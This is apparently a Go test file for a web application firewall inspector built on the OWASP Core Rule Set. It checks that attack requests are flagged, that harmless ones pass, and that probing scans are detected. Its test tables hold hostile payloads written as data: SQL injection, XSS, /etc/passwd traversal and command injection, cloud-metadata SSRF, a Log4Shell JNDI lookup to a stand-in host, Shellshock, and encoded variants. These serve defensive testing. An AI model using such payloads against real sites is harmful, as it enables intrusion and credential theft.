package web

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"

	"github.com/cybervault/cybervault"
	"github.com/cybervault/cybervault/internal/detect/decode"
)

// Loading the rule set takes a tenth of a second; tests share two inspectors.
var inspectors = sync.OnceValues(func() (gated, ungated *Inspector) {
	var err error
	if gated, err = New(Config{}); err != nil {
		panic(err)
	}
	if ungated, err = New(Config{NoGate: true}); err != nil {
		panic(err)
	}
	return gated, ungated
})

func get(target string, headers ...string) *Request {
	r := &Request{Method: "GET", Target: target, Version: "HTTP/1.1", Headers: [][2]string{{"Host", "www.example.com"}}}
	for i := 0; i < len(headers); i += 2 {
		r.Headers = append(r.Headers, [2]string{headers[i], headers[i+1]})
	}
	return r
}

func ids(matches []Match) string {
	var s []string
	for _, m := range matches {
		s = append(s, fmt.Sprint(m.RuleID))
	}
	return strings.Join(s, " ")
}

func TestAttacksAndTheirVectors(t *testing.T) {
	t.Parallel()
	in, _ := inspectors()
	for target, want := range map[string]string{
		"/?id=1%27%20OR%20%271%27=%271":                       "sql_injection",
		"/?id=1%20UNION%20SELECT%20a,b%20FROM%20users--%20-":  "sql_injection",
		"/?q=%3Cscript%3Ealert(1)%3C/script%3E":               "xss",
		"/?file=../../../../etc/passwd":                       "path_traversal",
		"/?file=..%252f..%252f..%252fetc%252fpasswd":          "path_traversal",
		"/?host=127.0.0.1%3Bcat%20/etc/passwd":                "remote_code_execution",
		"/?url=http://169.254.169.254/latest/meta-data/":      "ssrf",
		"/?page=php://filter/convert.base64-encode/resource=": "php_injection",
		"/?x=%24%7Bjndi:ldap://evil.example.net/a%7D":         "java_attack",
		"/.env": "reconnaissance",
	} {
		m := in.Inspect(get(target))
		name, rank, technique := Verdict(m)
		if name != want || rank == 0 || technique == "" {
			t.Errorf("%s: %q, matched %s", target, name, ids(m))
		}
		for _, x := range m {
			if x.Title == "" || x.Where == "" || x.Data == "" || x.Level.Rank() < 0 || len(x.Techniques) == 0 || strings.Contains(x.Title, "%{") {
				t.Errorf("%s: a match that does not explain itself: %+v", target, x)
			}
		}
	}
	scanner := in.Inspect(get("/", "User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)"))
	if name, _, _ := Verdict(scanner); name != "scanner" {
		t.Errorf("sqlmap: %s", ids(scanner))
	}
}

func TestBodies(t *testing.T) {
	t.Parallel()
	in, _ := inspectors()
	for kind, body := range map[string]string{
		"application/json":                  `{"user":{"name":"1' OR '1'='1' --"}}`,
		"application/x-www-form-urlencoded": "a=b&name=1%27+OR+%271%27%3D%271",
		"text/xml":                          `<a><b>1' OR '1'='1' UNION SELECT password FROM users</b></a>`,
	} {
		r := get("/login", "Content-Type", kind)
		r.Method, r.Body = "POST", body
		if name, _, _ := Verdict(in.Inspect(r)); name != "sql_injection" {
			t.Errorf("%s: %q", kind, name)
		}
		r.Body = strings.NewReplacer("1' OR '1'='1", "ann", "UNION SELECT password FROM users", "", "1%27+OR+%271%27%3D%271", "ann", " --", "").Replace(body)
		if m := in.Inspect(r); len(m) > 0 {
			t.Errorf("harmless %s: %s", kind, ids(m))
		}
	}
}

// What is too long is cut, and what is left is still looked at.
func TestLongRequestsAreCut(t *testing.T) {
	t.Parallel()
	in, _ := inspectors()
	r := get("/", "Content-Type", "application/json")
	r.Method, r.Body = "POST", `{"q":"1' UNION SELECT password FROM users -- ", "pad":"`+strings.Repeat("x", maxBody)+`"}`
	if name, _, _ := Verdict(in.Inspect(r)); name != "sql_injection" {
		t.Errorf("a long body: %q", name)
	}
	cut := bounded(&Request{Target: "/" + strings.Repeat("a", maxTarget), Body: strings.Repeat("b", maxBody+1), Headers: [][2]string{{"A", strings.Repeat("c", maxHeaders)}, {"B", "d"}}})
	if len(cut.Target) != maxTarget || len(cut.Body) != maxBody || len(cut.Headers) != 1 || len(cut.Headers[0][1]) != maxHeaders-1 {
		t.Errorf("target %d, body %d, %d headers", len(cut.Target), len(cut.Body), len(cut.Headers))
	}
}

func TestHarmlessRequests(t *testing.T) {
	t.Parallel()
	in, _ := inspectors()
	for _, target := range []string{
		"/", "/index.html", "/search?q=rock+%26+roll", "/search?q=O%27Reilly", "/a/b/c.png?v=1.2.3", "/blog/select-a-plan-from-the-list",
		"/products?sort=price&order=asc&page=2", "/?next=%2Faccount%2Forders", "/?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
		"/?utm_source=news&utm_campaign=Feed%3A+main+%28site%29", "/api/v1/users/42", "/?d=aGVsbG8gd29ybGQsIHRoaXMgaXMgYSB0ZXN0",
	} {
		if m := in.Inspect(get(target, "User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0", "Referer", "https://www.example.com/start?x=1")); len(m) > 0 {
			t.Errorf("%s: %s", target, ids(m))
		}
	}
}

// What CRS leaves encoded is found, and said to have been hidden.
func TestHiddenEncodings(t *testing.T) {
	t.Parallel()
	in, _ := inspectors()
	for name, target := range map[string]string{
		"base64":       "/?d=" + url.QueryEscape("MScgVU5JT04gU0VMRUNUIHBhc3N3b3JkIEZST00gdXNlcnMgLS0g"),
		"JSON escapes": `/?d=` + url.QueryEscape(`1\u0027 UNION SELECT password FROM users`),
		"URL encoding": "/?d=1%25252527%252520UNION%252520SELECT%252520password%252520FROM%252520users",
	} {
		m := in.Inspect(get(target))
		found := false
		for _, x := range m {
			found = found || strings.Contains(x.Encoding, name) && x.Vector == "sql_injection"
		}
		if !found {
			t.Errorf("%s: %+v", name, m)
		}
	}
}

// attackParts and plainParts are put together at random to compare the gate
// with the whole rule set.
var attackParts = []string{
	"' OR 1=1--", "<script>", "../../etc/passwd", "${jndi:ldap://x}", "; cat /etc/passwd", "() { :; }; echo", "union select", "sleep(5)", "<?php", "php://input",
	"javascript:alert(1)", "onerror=alert(1)", "..%2f", "%2e%2e/", "/.git/config", "/.env", "wp-config.php", "document.cookie", "java.lang.Runtime", "processbuilder",
	"sqlmap/1.0", "nikto", "http://169.254.169.254/", "eval(", "0x414141", "1.e(", "~+1", "`id`", "$(id)", "__proto__", "PHPSESSID", "jsessionid", "=", "&", "--", "%00", "\x00", "é", "%c0%ae",
	"ZXZhbCgxKQ", "bmV3IEZ1bmN0aW9uKA", "/etc/shadow", "cmd.exe", "powershell", "select", "config.xml", "x-forwarded", "{{7*7}}", "[$ne]", "+", "%", "\\", "\"", "|", "\r\n",
}

var plainParts = []string{"index", "news", "page", "a", "Z", "0", "42", "/", "/", "/", ".", "-", "_", "~", ".html", ".php", "images", "Mozilla/5.0", " (X11; Linux)", "http://", "example.com", "?", "q=", "select", "user", "and", "or", "on", "data:", ":"}

// TestGateIsSound compares the gate's verdicts with those of the rule set alone
// on requests put together at random, out of attacks and harmless parts.
func TestGateIsSound(t *testing.T) {
	t.Parallel()
	gated, ungated := inspectors()
	rng := rand.New(rand.NewPCG(1, 2))
	text := func(attack bool) string {
		var b strings.Builder
		for range 1 + rng.IntN(5) {
			parts := plainParts
			if attack && rng.IntN(3) == 0 {
				parts = attackParts
			}
			b.WriteString(parts[rng.IntN(len(parts))])
		}
		return b.String()
	}
	n, matching := 1500, 0
	if testing.Short() {
		n = 300
	}
	for range n {
		attack := rng.IntN(2) == 0
		r := get("/"+text(attack), "User-Agent", text(attack))
		if rng.IntN(2) == 0 {
			r.Headers = append(r.Headers, [2]string{"Referer", text(attack)})
		}
		if rng.IntN(3) == 0 {
			r.Target += "?" + text(attack) + "=" + url.QueryEscape(text(attack))
		}
		if rng.IntN(10) == 0 {
			r.Headers[0][1] = text(attack)
		}
		if rng.IntN(10) == 0 {
			r.Method, r.Body = "POST", text(attack)
		}
		want := ungated.Inspect(r)
		if len(want) > 0 {
			matching++
		}
		for range 3 { // when first seen, when seen again, from the cache
			if got := gated.Inspect(r); ids(got) != ids(want) {
				t.Fatalf("%+v: with the gate %q, without %q", r, ids(got), ids(want))
			}
		}
	}
	if matching < n/10 || matching > n*9/10 {
		t.Errorf("%d of %d matched: the test does not test much", matching, n)
	}
}

// The session rules look at the query and then at the Referer: the two parts
// must not be found clean one by one.
func TestGateOnRulesOverSeveralParts(t *testing.T) {
	t.Parallel()
	gated, ungated := inspectors()
	for _, referer := range []string{"", "http://elsewhere.example.net/", "http://www.example.com/"} {
		r := get("/?PHPSESSID=abc")
		if referer != "" {
			r.Headers = append(r.Headers, [2]string{"Referer", referer})
		}
		if got, want := ids(gated.Inspect(r)), ids(ungated.Inspect(r)); got != want {
			t.Errorf("Referer %q: with the gate %q, without %q", referer, got, want)
		}
	}
	if len(ungated.Inspect(get("/?PHPSESSID=abc"))) == 0 {
		t.Error("no rule about session ids: this test tests nothing")
	}
}

// The screen must know most of what a site is asked for, or it is of no use.
func TestScreenKnowsCommonParts(t *testing.T) {
	t.Parallel()
	s, err := newScreens()
	if err != nil {
		t.Fatal(err)
	}
	if !s.line("GET", "/presentations/2013/images/search-1.png", "HTTP/1.1", "www.example.com:8080") {
		t.Error("a plain path is left to Coraza")
	}
	for name, value := range map[string]string{
		"User-Agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36",
		"Referer":    "https://www.example.com/blog/choosing-a-lamp",
	} {
		if !s.header(name, value) {
			t.Errorf("%s: %s is left to Coraza", name, value)
		}
	}
	for _, part := range []string{"/.env", "/a/../b", "/wp-config.php", "/a%20b", "/é"} {
		if s.line("GET", part, "HTTP/1.1", "h") {
			t.Errorf("%s is said to be clean", part)
		}
	}
	if s.header("User-Agent", "sqlmap/1.0") || s.header("X-Other", "a") {
		t.Error("a header that is not screened is said to be clean")
	}
}

// Every rule that Inspect tells of is read by the screen, at each paranoia level.
func TestScreenReadsEveryRule(t *testing.T) {
	t.Parallel()
	rules, err := readRules(coreruleset.FS, ruleFiles)
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, chain := range rules {
		if known(chain[0].id) {
			n++
			if chain[0].paranoia > 4 || len(chain[0].vars) == 0 || chain[0].op == "" {
				t.Errorf("rule %s: %+v", chain[0].id, chain[0])
			}
		}
	}
	if n < 150 {
		t.Errorf("%d rules", n)
	}
}

func TestParanoia(t *testing.T) {
	t.Parallel()
	if _, err := New(Config{Paranoia: 5}); cybervault.ErrorCode(err) != cybervault.CodeInvalid {
		t.Errorf("level 5: %v", err)
	}
	high, err := New(Config{Paranoia: 3})
	if err != nil {
		t.Fatal(err)
	}
	low, _ := inspectors()
	r := get("/?q=" + url.QueryEscape("ls -la | grep a; sort"))
	if a, b := len(high.Inspect(r)), len(low.Inspect(r)); a <= b {
		t.Errorf("level 3 matched %d rules, level 1 %d", a, b)
	}
}

func TestCacheIsBounded(t *testing.T) {
	t.Parallel()
	c := newCache[bool](64 << 10)
	for i := range 10000 {
		c.put(fmt.Sprint("key ", i), true)
		if _, ok := c.get("key 0"); i%10 == 0 && !ok {
			t.Fatalf("what is in use was forgotten after %d", i)
		}
	}
	if n := len(c.newer) + len(c.older); n > 64<<10/entryCost {
		t.Errorf("%d entries", n)
	}
	c.put(strings.Repeat("x", maxKey+1), true)
	if _, ok := c.get(strings.Repeat("x", maxKey+1)); ok {
		t.Error("a key over the bound was kept")
	}
}

func TestScans(t *testing.T) {
	t.Parallel()
	start := time.Date(2026, 3, 10, 8, 0, 0, 0, time.UTC)
	run := func(gap time.Duration, probes ...Probe) (first *Scan, n int) {
		s := NewScans()
		for i, p := range probes {
			p.Key, p.Time = "k", start.Add(time.Duration(i)*gap)
			if p.Status == 0 {
				p.Status = 404
			}
			if scan := s.Add(p); scan != nil {
				if first == nil {
					first = scan
				}
				n++
			}
		}
		return first, n
	}
	many := func(n int, format string) (out []Probe) {
		for i := range n {
			out = append(out, Probe{Path: fmt.Sprintf(format, i)})
		}
		return out
	}
	if scan, _ := run(time.Second, Probe{Path: "/.env"}, Probe{Path: "/.git/config"}); scan == nil || scan.Rule != RuleSensitive || scan.Count != 2 || !scan.First.Equal(start) {
		t.Errorf("two hidden files: %+v", scan)
	}
	consoles := []Probe{{Path: "/wp-login.php"}, {Path: "/administrator/"}, {Path: "/phpmyadmin/"}, {Path: "/manager/html"}, {Path: "/pma/"}}
	if scan, n := run(time.Minute, consoles...); scan == nil || scan.Count != 3 || n != 3 {
		t.Errorf("five consoles: %+v, %d", scan, n)
	}
	if scan, _ := run(time.Second, many(50, "/dir%d")...); scan == nil || scan.Rule != RuleForced || scan.Count != forcedPaths {
		t.Errorf("a word list: %+v", scan)
	}
	for name, probes := range map[string][]Probe{
		"one stale bookmark":             {{Path: "/wp-login.php"}, {Path: "/wp-login.php"}, {Path: "/wp-login.php"}, {Path: "/wp-login.php"}, {Path: "/wp-login.php"}},
		"an admin page that lost images": many(30, "/admin/img%d.png"),
		"a few broken links":             many(20, "/old/%d"),
		"consoles that are there":        {{Path: "/wp-login.php", Status: 200}, {Path: "/administrator/", Status: 200}, {Path: "/phpmyadmin/", Status: 302}, {Path: "/admin", Status: 200}},
		"certificates being renewed":     many(30, "/.well-known/acme-challenge/%d"),
	} {
		if scan, _ := run(time.Second, probes...); scan != nil {
			t.Errorf("%s: %+v", name, scan)
		}
	}
	if scan, _ := run(15*time.Second, many(200, "/gone/%d")...); scan != nil {
		t.Errorf("a polite crawler with a stale sitemap: %+v", scan)
	}
	if scan, _ := run(11*time.Minute, consoles...); scan != nil {
		t.Errorf("consoles far apart: %+v", scan)
	}
	s := NewScans()
	for i := range maxProbeSources + 10 {
		s.Add(Probe{Key: fmt.Sprint(i), Path: "/x", Status: 404, Time: start})
	}
	if n, evicted := s.Size(); n != maxProbeSources || evicted != 10 {
		t.Errorf("%d addresses, %d forgotten", n, evicted)
	}
}

func FuzzTransformAndReveal(f *testing.F) {
	f.Add("MScgVU5JT04gU0VMRUNU", "a%2525+b")
	f.Fuzz(func(t *testing.T, a, b string) {
		for _, name := range []string{"cmdLine", "base64Decode", "urlDecodeUni", "removeWhitespace"} {
			if out, _ := transform(name, a); len(out) > len(a) {
				t.Errorf("%s grew %q", name, a)
			}
		}
		text, encodings := decode.Reveal(b)
		if len(encodings) == 0 && text != b {
			t.Errorf("%q became %q", b, text)
		}
		_ = views(values(get("/?" + a + "=" + b)))
	})
}
